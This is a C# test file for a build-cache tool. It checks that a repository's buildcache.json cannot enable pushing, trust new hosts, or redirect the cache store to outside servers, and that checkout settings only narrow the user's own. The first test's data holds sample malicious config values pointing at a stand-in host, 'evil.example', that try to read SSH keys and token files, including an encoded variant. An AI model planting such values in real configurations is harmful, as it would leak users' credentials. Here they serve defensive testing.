using BuildCache.Configuration;
using BuildCache.Sources;
using BuildCache.Tests.Configuration;
using BuildCache.Tests.Support;
using BuildCache.Trust;

namespace BuildCache.Tests.Trust;

/// <summary>What the <c>buildcache.json</c> of a checkout may say, and what it may not.</summary>
[Collection(typeof(EnvironmentAlone))]
public sealed class CheckoutRuleTests : IDisposable
{
    private readonly EnvironmentGuard _environment = new();
    private readonly TempFolder _checkout = new();

    [Theory]
    [InlineData("\"push\": true", "push")]
    [InlineData("\"trustedHosts\": [\"evil.example\"]", "trustedHosts")]
    [InlineData("\"store\": \"grpcs://evil.example/x?tokenFile=/home/victim/.ssh/id_ed25519\"", "store")]
    [InlineData("\"store\": \"grpcs://evil.example/x?readonly=true&key=/home/victim/key.pem\"", "store")]
    [InlineData("\"store\": \"grpcs://evil.example/x?%74okenFile=/home/victim/token\"", "store")]
    [InlineData("\"store\": [\"/cache\", \"grpcs://evil.example/x?ca=/tmp/ca.pem\"]", "store")]
    [InlineData("\"store\": \"s3://evil?profile=prod\"", "store")]
    [InlineData("\"store\": \"\\\\\\\\evil.example\\\\share\"", "store")]
    [InlineData("\"store\": \"//evil.example/share\"", "store")]
    [InlineData("\"store\": \"file://evil.example/share\"", "store")]
    [InlineData("\"assetService\": \"grpcs://evil.example?tokenFile=/home/victim/token\"", "assetService")]
    public void What_decides_is_not_followed_and_the_user_hears_of_it(string line, string name)
    {
        string file = _checkout.File("buildcache.json", $"{{\n  \"project\": \"p\",\n  {line}\n}}");
        Workspace workspace = Workspace.At(_checkout.Root);

        Setting refused = Assert.Single(workspace.Refused);
        Assert.Equal((name, SettingSource.Checkout, $"'{name}' in {file}(3)"), (refused.Name, refused.Source, refused.Place));
        Assert.Contains(UserDirectories.SettingsFile, refused.Warning, StringComparison.Ordinal);
        Assert.DoesNotContain("victim", refused.Warning + refused.Value, StringComparison.Ordinal);
        Assert.Equal("p", workspace.ProjectName);
        Assert.Equal(UserDirectories.Store, CacheSettings.Resolve(workspace).Store.Text);
        SourceSettings sources = SourceSettings.Read(workspace);
        Assert.False(sources.Push);
        Assert.Null(sources.AssetService);
        Assert.DoesNotContain(sources.All, setting => setting.Source == SettingSource.Checkout);
    }

    [Theory]
    [InlineData("/cache")]
    [InlineData("cache")]
    [InlineData("file:///cache?readonly=true")]
    [InlineData("s3://bucket/prefix?endpoint=https://minio.example&region=eu-north-1&pathStyle=true")]
    [InlineData("grpcs://cache.example/instance?readonly=true")]
    [InlineData("gha:")]
    public void The_address_of_a_store_is_followed(string store)
    {
        _checkout.File("buildcache.json", $$"""{ "store": "{{store}}" }""");

        StoreSetting setting = CacheSettings.Resolve(Workspace.At(_checkout.Root)).Store;

        Assert.Equal((SettingSource.Checkout, Path.GetFullPath("cache", _checkout.Root)), (setting.Source, store == "cache" ? setting.Text : Path.GetFullPath("cache", _checkout.Root)));
        Assert.Empty(Workspace.At(_checkout.Root).Refused);
    }

    [Theory]
    [InlineData("ReadOnly", "ReadWrite", "ReadOnly")]
    [InlineData("ReadOnly", "WriteOnly", "ReadOnly")]
    [InlineData("Off", "Audit", "Off")]
    [InlineData("ReadOnly", "Off", "Off")]
    [InlineData("ReadWrite", "ReadOnly", "ReadOnly")]
    [InlineData("ReadWrite", "WriteOnly", "WriteOnly")]
    [InlineData(null, "WriteOnly", "WriteOnly")]
    public void A_mode_can_only_do_less_than_the_users_own(string? ofUser, string ofCheckout, string inForce)
    {
        OfUser(ofUser is null ? "{}" : $$"""{ "mode": "{{ofUser}}" }""");
        _checkout.File("buildcache.json", $$"""{ "mode": "{{ofCheckout}}" }""");

        CacheSettings settings = CacheSettings.Resolve(Workspace.At(_checkout.Root));

        Assert.Equal(inForce, settings.Mode.ToString());
        Assert.Equal(inForce != ofCheckout, settings.Refused.Any(setting => setting.Name == "mode"));
    }

    [Fact]
    public void Whom_to_ask_is_the_users_to_say_where_the_user_says_it()
    {
        OfUser("""{ "fetchFrom": "User", "trackFrom": "Mirrors", "trackBy": "Native", "maxAge": "00:10:00" }""");
        _checkout.File("buildcache.json", """{ "fetchFrom": "All", "trackFrom": "All", "trackBy": "AssetOnly", "maxAge": "100.00:00:00" }""");

        SourceSettings settings = SourceSettings.Read(Workspace.At(_checkout.Root));

        Assert.Equal((PlacePolicy.User, PlacePolicy.Mirrors, TrackPolicy.Native, TimeSpan.FromMinutes(10)), (settings.FetchFrom, settings.TrackFrom, settings.TrackBy, settings.MaximumAge));
    }

    [Fact]
    public void Nothing_is_pushed_to_a_service_that_only_the_checkout_names()
    {
        OfUser("""{ "push": true, "assetService": "grpcs://mine.example" }""");
        Assert.True(SourceSettings.Read(Workspace.At(_checkout.Root)).Push);

        _checkout.File("buildcache.json", """{ "assetService": "grpcs://theirs.example" }""");
        SourceSettings settings = SourceSettings.Read(Workspace.At(_checkout.Root));
        Assert.False(settings.Push);
        Assert.Contains("theirs.example", Assert.Single(settings.All, setting => setting.Refused is not null).Warning, StringComparison.Ordinal);

        _checkout.File("buildcache.json", """{ "assetService": "grpcs://mine.example/instance" }""");
        Assert.True(SourceSettings.Read(Workspace.At(_checkout.Root)).Push);
    }

    [Fact]
    public void Every_setting_is_listed_with_who_set_it_and_where()
    {
        OfUser("""{ "scope": "team:core", "trustedHosts": ["cache.example"], "signingKey": "main.key" }""");
        string file = _checkout.File("buildcache.json", """{ "project": "p", "store": "grpcs://cache.example?readonly=true", "push": true }""");
        _environment.Set(TrustSettings.TrustVariable, """{ "required": true }""");
        _environment.Set(CacheSettings.ModeVariable, "ReadOnly");
        _environment.Set("BUILDCACHE_TOKEN", "s3cret");

        IReadOnlyList<Setting> all = SettingList.Of(Workspace.At(_checkout.Root));

        Assert.Contains(new Setting("project", "p", SettingSource.Checkout, $"'project' in {file}"), all);
        Assert.Contains(new Setting("store", "grpcs://cache.example", SettingSource.Checkout, $"'store' in {file}"), all);
        Assert.Contains(new Setting("scope", "team:core", SettingSource.User, $"'scope' in {UserDirectories.SettingsFile}"), all);
        Assert.Contains(new Setting("mode", "ReadOnly", SettingSource.Environment, "BUILDCACHE_MODE"), all);
        Assert.Contains(new Setting("trackBy", "Native", SettingSource.Default, "the default"), all);
        Assert.Contains(new Setting("trustedHosts", "cache.example", SettingSource.User, $"'trustedHosts' in {UserDirectories.SettingsFile}"), all);
        Assert.Contains(new Setting("trust", "no signers; required in *", SettingSource.Environment, "BUILDCACHE_TRUST"), all);
        Assert.Contains(new Setting("signingKey", "main.key", SettingSource.User, $"'signingKey' in {UserDirectories.SettingsFile}"), all);
        Assert.Contains(new Setting("BUILDCACHE_TOKEN", "(secret)", SettingSource.Environment, "BUILDCACHE_TOKEN"), all);
        Assert.Equal(["push"], all.Where(setting => setting.Refused is not null).Select(setting => setting.Name));
        Assert.Empty(SettingsFile.Names.Except(["$schema", "sources", "aliases", "mirrors", "defaultMirror", "fetchOrder", "trackOrder"]).Except(all.Select(setting => setting.Name)));
    }

    private void OfUser(string json)
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "Only on Linux does a variable say where the user's settings are.");
        _environment.Home.File("config/buildcache/buildcache.json", json);
    }

    public void Dispose()
    {
        _environment.Dispose();
        _checkout.Dispose();
    }
}
